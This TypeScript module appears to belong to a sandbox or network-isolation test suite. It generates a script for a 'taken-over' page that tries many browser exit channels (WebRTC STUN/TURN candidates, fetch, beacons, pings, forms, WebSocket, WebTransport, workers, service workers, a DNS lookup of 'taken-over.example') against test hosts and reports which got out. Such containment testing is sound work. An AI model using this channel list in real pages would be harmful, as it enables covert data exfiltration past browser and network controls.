/** What a page that was taken over tries, to reach somebody. */
import type { Trap } from './trap.ts';

/** No such name exists; whoever looks it up tells the resolver what it spells. */
export const SPELLED_NAME = 'taken-over.example';

/**
 * The source text of a script that tries every way out of a page. Its value says of each way whether it
 * `failed` or is `over` without the page being told.
 */
export function tryEveryWayOut({ port, hosts }: Pick<Trap, 'port' | 'hosts'>): string {
  return `(${attempt})(${JSON.stringify({ port, hosts, name: SPELLED_NAME })})`;
}

const attempt = `async ({ port, hosts, name }) => {
  const said = {};
  const add = (tag, values, where = document.body) => {
    const element = Object.assign(document.createElement(tag), values);
    where.append(element);
    return element;
  };
  const settled = (way, begin) => new Promise((resolve) => {
    const end = (how) => () => { said[way] ??= how; resolve(); };
    try { begin(end('over'), end('failed')); } catch { end('failed')(); }
  });
  const promised = (way, begin) => settled(way, (over, failed) => begin().then(over, failed));

  const connect = (host) => settled('WebRTC ' + host, (over) => {
    const turn = { username: 'u', credential: 'c' };
    const peer = new RTCPeerConnection({ iceServers: [
      { urls: 'stun:' + host + ':' + port },
      { urls: 'turn:' + host + ':' + port + '?transport=udp', ...turn },
      { urls: 'turn:' + host + ':' + port + '?transport=tcp', ...turn },
      { urls: 'turns:' + host + ':' + port + '?transport=tcp', ...turn },
    ] });
    peer.createDataChannel('out');
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && over();
    const line = (tcp) => 'candidate:1 1 ' + (tcp ? 'tcp' : 'udp') + ' 2122260223 ' + host + ' ' + port +
      ' typ host' + (tcp ? ' tcptype passive' : '');
    void (async () => {
      const offer = await peer.createOffer();
      await peer.setLocalDescription(offer);
      // Straight to the other side, without any server.
      const other = new RTCPeerConnection();
      await other.setRemoteDescription(offer);
      await other.setLocalDescription(await other.createAnswer());
      await peer.setRemoteDescription(other.localDescription);
      for (const tcp of [false, true]) {
        await peer.addIceCandidate({ candidate: line(tcp), sdpMid: '0', sdpMLineIndex: 0 });
      }
    })().catch(() => over());
  });

  const tries = [...hosts, name].flatMap((host) => {
    const at = host + ':' + port;
    const url = 'http://' + at;
    for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload',
      'stylesheet', 'icon', 'manifest', 'prerender']) {
      add('link', { rel, href: url + '/' + rel, as: 'image' }, document.head);
    }
    add('script', { type: 'speculationrules', textContent: JSON.stringify({
      prefetch: [{ urls: [url + '/speculated'] }], prerender: [{ urls: [url + '/prerendered'] }],
    }) });
    navigator.sendBeacon?.(url + '/beacon', 'x');
    add('a', { href: '#here', ping: url + '/ping' }).click();
    add('object', { data: url + '/object' });
    add('embed', { src: url + '/embed' });
    window.open(url + '/opened');
    location.assign(url + '/gone');
    add('form', { action: url + '/form', method: 'post' }).submit();
    add('form', { action: url + '/form', target: '_blank' }).submit();
    return [
      connect(host),
      promised('fetch ' + host, () => fetch(url + '/fetch', { mode: 'no-cors' })),
      promised('keepalive ' + host, () => fetch(url, { mode: 'no-cors', keepalive: true })),
      settled('XMLHttpRequest ' + host, (over, failed) => {
        const request = new XMLHttpRequest();
        request.onload = over;
        request.onerror = failed;
        request.open('GET', url + '/xhr');
        request.send();
      }),
      settled('WebSocket ' + host, (over, failed) => {
        const socket = new WebSocket('ws://' + at);
        socket.onopen = over;
        socket.onerror = failed;
      }),
      promised('WebTransport ' + host, () => new WebTransport('https://' + at + '/').ready),
      settled('EventSource ' + host, (over, failed) => {
        const source = new EventSource(url + '/events');
        source.onopen = over;
        source.onerror = failed;
      }),
      ...[['img', 'src'], ['script', 'src'], ['video', 'src'], ['audio', 'src']].map(([tag, key]) =>
        settled(tag + ' ' + host, (over, failed) => {
          add(tag, { onload: over, onloadeddata: over, onerror: failed, [key]: url + '/' + tag });
        })),
      settled('iframe ' + host, (over) => add('iframe', { onload: over, src: url + '/frame' })),
      settled('font ' + host, (over, failed) =>
        new FontFace('out', 'url(' + url + '/font)').load().then(over, failed)),
      settled('worker ' + host, (over, failed) => {
        const source = 'fetch("' + url + '/worker").then(() => postMessage("over"), () => postMessage("failed"))';
        const worker = new Worker(URL.createObjectURL(new Blob([source])));
        worker.onmessage = ({ data }) => (data === 'over' ? over : failed)();
        worker.onerror = failed;
      }),
      promised('service worker ' + host, () => navigator.serviceWorker.register(url + '/service.js')),
    ];
  });
  await Promise.all(tries);
  return said;
}`;
